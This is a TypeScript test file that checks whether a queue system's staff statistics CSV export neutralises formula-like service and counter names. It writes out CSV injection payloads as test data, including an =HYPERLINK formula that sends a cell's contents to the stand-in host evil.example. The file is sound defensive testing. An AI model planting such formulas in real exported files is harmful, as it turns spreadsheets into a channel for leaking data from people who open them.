import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { assetsDir } from '../../../core/config/load';
import { localDay } from '../../../core/store/clock';
import { counterAction, createFirstAdmin, issueTicket, startTestLobby, type HttpClient, type TestLobby } from '../../helpers/lobby';

interface Named {
  id: string;
  name: { zh: string; en: string };
}
const sample = JSON.parse(readFileSync(join(assetsDir(), 'sites', 'taitung-prosecutors', 'site.json'), 'utf8')) as { services: Named[]; counters: Named[] };

// Names an admin could type into the site file, each a formula if a spreadsheet ran it.
const EVIL_SERVICE = ['=HYPERLINK("http://evil.example/?x="&A1,"點此")', '+1+1', '-2+3', '@SUM(A1:A2)'];
const EVIL_COUNTER = ['=1+1', '\t=2+2'];
const services = sample.services.map((s, i) => (i < EVIL_SERVICE.length ? { ...s, name: { zh: EVIL_SERVICE[i]!, en: 'Evil' } } : s));
const counters = sample.counters.map((c, i) => (i < EVIL_COUNTER.length ? { ...c, name: { zh: EVIL_COUNTER[i]!, en: 'Counter' } } : c));

let t: TestLobby;
let admin: HttpClient;
beforeAll(async () => {
  t = await startTestLobby({ siteWith: { services, counters } });
  admin = await createFirstAdmin(t);
});
afterAll(async () => {
  await t.stop();
});

describe('GET /api/staff/stats.csv with formula-like names', () => {
  it('every name cell reaches the spreadsheet as text starting with an apostrophe; the figures stay plain numbers', async () => {
    await issueTicket(t, services[0]!.id);
    await counterAction(admin, { action: 'next', counterId: counters[0]!.id });
    const today = localDay(Date.now(), 'Asia/Taipei');
    const res = await fetch(`${t.url}/api/staff/stats.csv?from=${today}&to=${today}`, { headers: admin.headers() });
    expect(res.status).toBe(200);
    const raw = await res.text();
    // No line of the file starts a cell with a bare formula character.
    for (const line of raw.replace(/^\uFEFF/, '').split('\r\n')) expect(line).not.toMatch(/(^|,)[=+\-@\t\r]/);
    const rows = parse(raw.replace(/^\uFEFF/, ''), { relax_column_count: true, skip_empty_lines: true }) as string[][];
    const nameCells = rows.map((r) => r[0]!);
    for (const zh of EVIL_SERVICE) expect(nameCells).toContain(`'${zh} Evil`);
    for (const zh of EVIL_COUNTER) expect(nameCells).toContain(`'${zh} Counter`);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The issued ticket's service row: its figures are numbers, unquoted in the file.
    const first = rows.find((r) => r[0] === `'${EVIL_SERVICE[0]} Evil`)!;
    expect(first.slice(1, 3)).toEqual(['1', '0']);
    expect(raw).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""點此""\) Evil",1,0,/m);
  });
});
